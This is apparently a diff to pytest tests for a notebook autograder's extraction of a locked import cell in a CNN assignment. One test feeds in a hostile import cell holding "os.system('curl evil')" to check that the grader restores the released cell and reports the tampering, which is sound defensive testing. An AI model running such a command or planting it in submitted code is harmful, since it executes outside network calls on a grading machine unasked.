@@ -4,7 +4,9 @@ import json
 import pytest
 
 from autograder.assignments.cnn_week1.contract import GRADED_NAMES, IMPORT_CELL_ID
-from autograder.engine.extract import extract, is_file_unit, release_import_cell, strip_solution_markers
+from autograder.engine.extract import is_file_unit, release_import_cell, strip_solution_markers
+from autograder.engine.config import KIT_ROOT
+from week1 import WEEK1, extract_week1 as extract
 
 
 def _cell(source, grade_id=None, cell_type="code"):
@@ -195,27 +197,27 @@ def test_a_fifo_is_not_read(tmp_path):
 # ----- the locked import cell is the release's, as nbgrader restores it --------------------------
 
 def test_release_has_an_import_cell():
-    assert "import torch" in release_import_cell()
+    assert "import torch" in release_import_cell(WEEK1.release_notebook(), WEEK1.import_cell)
 
 
 def test_an_edited_import_cell_is_graded_as_released_and_reported(tmp_path):
     hostile = "import os\nos.system('curl evil')\nimport torch\n"
     submission = extract(_notebook(tmp_path, [_cell(hostile, IMPORT_CELL_ID)]))
     assert submission.cells[0].grade_id == IMPORT_CELL_ID
-    assert submission.cells[0].source == release_import_cell() and "os.system" not in submission.cells[0].source
+    assert submission.cells[0].source == release_import_cell(WEEK1.release_notebook(), WEEK1.import_cell) and "os.system" not in submission.cells[0].source
     assert any("import cell was changed" in p for p in submission.problems)
 
 
 def test_whitespace_changes_to_the_import_cell_are_not_a_problem(tmp_path):
-    spaced = "\n\n" + "\n\n".join("  ".join(line.split()) for line in release_import_cell().splitlines()) + "\n  "
+    spaced = "\n\n" + "\n\n".join("  ".join(line.split()) for line in release_import_cell(WEEK1.release_notebook(), WEEK1.import_cell).splitlines()) + "\n  "
     submission = extract(_notebook(tmp_path, [_cell(spaced, IMPORT_CELL_ID)]))
-    assert submission.cells[0].source == release_import_cell()
+    assert submission.cells[0].source == release_import_cell(WEEK1.release_notebook(), WEEK1.import_cell)
     assert not any("import cell" in p for p in submission.problems)
 
 
 def test_a_deleted_import_cell_is_restored_and_the_source_notebook_keeps_its_own(tmp_path):
     submission = extract(_notebook(tmp_path, [_cell(SAME_PADDING, "same_padding")]))
-    assert submission.cells[0].source == release_import_cell()
+    assert submission.cells[0].source == release_import_cell(WEEK1.release_notebook(), WEEK1.import_cell)
     assert any("import cell was missing" in p for p in submission.problems)
     own = extract(_notebook(tmp_path, [_cell("import math\n", IMPORT_CELL_ID)]), locked_imports=False)
     assert own.cells[0].source == "import math\n"
